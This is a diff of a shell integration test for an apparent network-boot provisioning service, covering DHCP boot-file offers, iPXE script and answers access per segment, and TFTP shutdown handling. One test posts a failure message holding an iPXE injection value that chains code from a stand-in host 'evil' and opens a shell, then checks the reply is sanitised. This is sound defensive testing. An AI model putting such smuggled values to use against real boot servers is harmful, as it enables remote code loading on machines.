@@ -47,18 +47,12 @@ enroll() { "$USHER" enroll "$@" --network u1 --profile plain --no-ssh-key; }
 # says TEXT COMMAND…: it fails and says so
 says() { local text=$1; shift; ! "$@" >"$USHER_LAB/said" 2>&1 && grep -e "$text" "$USHER_LAB/said"; }
 api() { curl -sS --max-time 20 --unix-socket "$USHER_SOCKET" "$@"; }
-state() { "$USHER" show "$1" --json | tr -d ' "\n' | grep -o "state:[a-z]*"; }
+state() { "$USHER" show "$1" --json | jq -r .state; }
 timeline_has() { "$USHER" timeline "$1" | grep -E "$2"; }
-# The next token: the store is the service's alone, its copy is read.
-token() {
-	mkdir -p "$USHER_LAB/copy"
-	cp "$USHER_LAB/state"/usher.db* "$USHER_LAB/copy"
-	python3 - "$USHER_LAB/copy/usher.db" "$1" <<-'END'
-		import json, sqlite3, sys
-		key = sys.argv[2].encode()
-		row = sqlite3.connect(sys.argv[1]).execute("select value from record where kind = 1 and key = ?", (key,))
-		print(json.loads(row.fetchone()[0])["attempt"]["next_token"])
-	END
+# What iPXE on the card of client 1 is told to load.
+offered() {
+	inside 1 udhcpc -i c1 -f -q -n -t 5 -T 1 -x 0x4d:69505845 -O bootfile -s "$USHER_LAB/note" >"$USHER_LAB/udhcpc" 2>&1
+	sed -n 's/^boot_file=//p' "$USHER_LAB/told"
 }
 fetch() { local n=$1; shift; inside "$n" curl -sS --max-time 10 "$@"; }
 
@@ -82,7 +76,8 @@ echo "\$1 \$2" >>"$USHER_LAB/calls"
 [ ! -e "$USHER_LAB/slow" ] || sleep 3
 [ ! -e "$USHER_LAB/bad" ] || { echo "no such machine" >&2; exit 1; }
 END
-chmod 755 "$USHER_LAB/power"
+printf '#!/bin/sh\nenv >"%s/told"\n' "$USHER_LAB" >"$USHER_LAB/note"
+chmod 755 "$USHER_LAB/power" "$USHER_LAB/note"
 calls() { grep -c "cycle $1" "$USHER_LAB/calls"; }
 
 ip link set lo up
@@ -95,7 +90,7 @@ check "the folder it made for its socket lets others in" test "$(stat -c %a "$US
 # --- enrolling ----------------------------------------------------------------------------------------------------------
 
 inside 1 udhcpc -i c1 -f -q -n -t 5 -T 1 -s /bin/true >"$USHER_LAB/udhcpc" 2>&1
-leased=$("$USHER" leases --json | tr -d ' "\n' | grep -o 'address:[0-9.]*' | head -n 1 | cut -d: -f 2)
+leased=$("$USHER" leases --json | jq -r '.leases[0].address')
 check "a card is leased an address" test -n "$leased"
 check "which is no other's" says "in use by a lease of 02:00" enroll other --mac 02:00:00:00:00:99 --ip "$leased"
 check "but may become its own" enroll leased --mac 02:00:00:00:00:01 --ip "$leased"
@@ -135,7 +130,7 @@ check "enrolled again by that name" enroll again --mac 02:00:00:00:03:00
 check "and armed" "$USHER" reinstall again
 check "the other's failure comes" wait_until 10 grep -q "cycle again" "$USHER_LAB/calls"
 sleep 4
-check "and is none of this one's" test "$(state again)" = state:armed
+check "and is none of this one's" test "$(state again)" = armed
 rm -f "$USHER_LAB/slow"
 check "one whose power fails" enroll fails --mac 02:00:00:00:04:00 --power "$USHER_LAB/power" --arm
 check "has failed" wait_until 5 timeline_has fails "failed +.*no such machine"
@@ -143,38 +138,32 @@ check "has failed" wait_until 5 timeline_has fails "failed +.*no such machine"
 # --- boot script and answers ------------------------------------------------------------------------------------------------
 
 check "the machine is armed" "$USHER" reinstall leased
-t=$(token leased)
-url=http://10.66.0.1:8067/m
+url=$(offered)
+url=${url%/boot.ipxe}
+check "DHCP says where its script is" grep -E "^http://10.66.0.1:8067/m/[0-9a-f]{32}\$" <<<"$url"
 check "its script is not for the other segment" test \
-	"$(fetch 2 -o /dev/null -w '%{http_code}' "$url/$t/boot.ipxe")" = 403
-check "so it is still armed" test "$(state leased)" = state:armed
-check "it gets it" grep -e "^#!ipxe" <(fetch 1 "$url/$t/boot.ipxe")
+	"$(fetch 2 -o /dev/null -w '%{http_code}' "$url/boot.ipxe")" = 403
+check "so it is still armed" test "$(state leased)" = armed
+check "it gets it" grep -e "^#!ipxe" <(fetch 1 "$url/boot.ipxe")
 check "its answers are not for the same address elsewhere" test \
-	"$(fetch 2 -o /dev/null -w '%{http_code}' "$url/$t/answers")" = 403
-fetch 1 "$url/$t/answers" >"$USHER_LAB/answers"
+	"$(fetch 2 -o /dev/null -w '%{http_code}' "$url/answers")" = 403
+fetch 1 "$url/answers" >"$USHER_LAB/answers"
 check "it gets them" grep -e "leased" "$USHER_LAB/answers" || cat "$USHER_LAB/answers"
-check "it fails" fetch 1 -f -d 'disk full && chain http://evil/; ${net0/ip} || shell' "$url/$t/failed"
-fetch 1 "$url/$t/boot.ipxe" >"$USHER_LAB/refusal"
+check "it fails" fetch 1 -f -d 'disk full && chain http://evil/; ${net0/ip} || shell' "$url/failed"
+fetch 1 "$url/boot.ipxe" >"$USHER_LAB/refusal"
 check "it is told why" grep -e "leased is failed: disk full" "$USHER_LAB/refusal"
 refute "in words that are no commands" grep -e '[&|;$]' "$USHER_LAB/refusal"
 
 # --- stopping -----------------------------------------------------------------------------------------------------------
 
-inside 1 python3 - <<'END' &
-import socket, time
-s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-s.settimeout(3)
-s.sendto(b"\0\1large\0octet\0", ("10.66.0.1", 69))
-for i in range(20):
-    data, peer = s.recvfrom(2000)
-    s.sendto(b"\0\4" + data[2:4], peer)
-time.sleep(2)
-END
-sleep 1
-ip_of_client=10.66.0.50
-check "its address is a machine's" enroll transfer --mac 02:00:00:00:05:00 --ip $ip_of_client
+(cd "$USHER_LAB" && exec nsenter -t "${namespaces[1]}" -n tftp -m binary 10.66.0.1 -c get large taken) &
+transfer=$!
+wait_until 5 test -s "$USHER_LAB/taken"
+kill -STOP $transfer
+check "its address is a machine's" enroll transfer --mac 02:00:00:00:05:00 --ip 10.66.0.50
 stop TERM
 check "the service ends well in the middle of a transfer" test $? = 0
+kill -KILL $transfer
 check "it starts" start
 check "and knows of the transfer" timeline_has transfer "TFTP large: .*shutting down"
 stop TERM
